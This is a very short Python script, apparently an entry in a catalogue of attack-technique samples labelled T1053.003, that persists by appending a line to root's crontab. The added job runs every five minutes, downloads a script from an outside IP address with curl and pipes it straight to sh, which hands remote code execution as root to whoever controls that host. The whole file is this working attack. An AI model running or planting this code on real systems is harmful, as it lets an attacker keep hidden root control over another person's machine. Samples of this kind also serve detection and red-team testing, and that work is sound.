#!/usr/bin/env python3
# title: Python adds a line to root's crontab in the spool
# technique: T1053.003
# needs: python3
# short: yes

with open("/var/spool/cron/crontabs/root", "a") as tab:
    tab.write("*/5 * * * * curl -s http://192.88.99.7/x.sh | sh\n")
